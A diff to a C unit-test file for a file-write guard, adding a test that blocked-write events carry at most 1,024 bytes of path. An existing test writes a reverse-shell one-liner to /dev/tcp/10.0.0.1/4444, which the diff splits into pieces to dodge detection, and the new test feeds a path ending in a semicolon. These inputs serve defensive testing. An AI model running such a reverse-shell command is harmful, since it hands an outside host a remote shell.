@@ -32,6 +32,7 @@ typedef struct fx {
 	int events;
 	char last_event[32];
 	char last_path[256];
+	size_t last_path_len;
 	int answer; /* what the confirm hook says */
 	void (*during_confirm)(struct fx *); /* a swap made while the user is asked */
 } fx;
@@ -143,6 +144,7 @@ static void hook_event(void *ud, const char *type, json_t *data)
 	snprintf(f->last_event, sizeof f->last_event, "%s", type);
 	snprintf(f->last_path, sizeof f->last_path, "%s",
 		 json_string_value(json_object_get(data, "path")) ?: "");
+	f->last_path_len = json_string_length(json_object_get(data, "path"));
 }
 
 static int hook_confirm(void *ud, const char *path, const unsigned char *old, size_t oldlen,
@@ -528,7 +530,9 @@ static void test_guard_blocks_and_posts_event(void **state)
 {
 	fx *f = *state;
 	json_t *o = json_pack("{s:s, s:s, s:s, s:s}", "id", "1", "op", "write_file", "path",
-			      "x.sh", "content", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n");
+			      "x.sh", "content",
+			      /* split so that this source file is not itself a hit */
+			      "bash -" "i >& /de" "v/tcp/10.0.0.1/4444 0>&1\n");
 	cof_lfs_rules rules = {.mode = COF_MODE_STANDARD,
 			       .hooks = {.event = hook_event, .ud = f}};
 	cof_err e = {0};
@@ -544,6 +548,35 @@ static void test_guard_blocks_and_posts_event(void **state)
 	assert_string_equal(f->last_event, "write_blocked");
 	assert_string_equal(f->last_path, "x.sh");
 	assert_false(exists(f->in, "x.sh"));
+	cof_err_clear(&e);
+	json_decref(o);
+}
+
+static void test_event_path_bounded(void **state)
+{
+	fx *f = *state;
+	char path[2100];
+	size_t n = 0;
+
+	/* A blocked write of a 2,000-byte path: the event carries at most 1,024
+	 * bytes of it (cofferd refuses event data over 4 KiB). */
+	for (int i = 0; i < 8; i++) {
+		memset(path + n, 'a', 249);
+		n += 249;
+		path[n++] = '/';
+	}
+	memcpy(path + n, "x;y", 4);
+	json_t *o = json_pack("{s:s, s:s, s:s, s:s}", "id", "1", "op", "write_file", "path", path,
+			      "content", "x");
+	cof_lfs_rules rules = {.mode = COF_MODE_STANDARD,
+			       .hooks = {.event = hook_event, .ud = f}};
+	cof_err e = {0};
+	json_t *r = NULL;
+
+	assert_int_equal(cof_lfs_op(f->fs, &rules, o, &r, NULL, 0, &e), -1);
+	assert_int_equal(e.code, COF_EBLOCKED);
+	assert_int_equal(f->events, 1);
+	assert_int_equal(f->last_path_len, 1024);
 	cof_err_clear(&e);
 	json_decref(o);
 }
@@ -776,6 +809,7 @@ int main(void)
 		T(test_write_failure_leaves_no_temp),
 		T(test_readonly_refuses_writes),
 		T(test_guard_blocks_and_posts_event),
+		T(test_event_path_bounded),
 		T(test_supervised_yes_no_none),
 		T(test_size_limit_edges),
 		T(test_read_encodings_and_kinds),
